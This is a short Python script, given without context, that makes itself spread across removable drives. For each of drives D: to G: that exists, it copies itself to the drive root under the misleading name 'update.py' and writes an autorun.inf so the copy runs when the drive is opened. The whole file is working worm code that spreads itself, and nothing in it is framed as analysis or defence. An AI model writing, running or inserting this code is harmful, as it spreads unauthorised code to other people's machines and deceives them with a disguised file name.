import os
import shutil

for letter in 'DEFG':
    if os.path.exists(letter + ':\\'):
        shutil.copy(__file__, letter + ':\\update.py')
        with open(letter + ':\\autorun.inf', 'w') as handle:
            handle.write('[autorun]\nopen=python update.py\n')
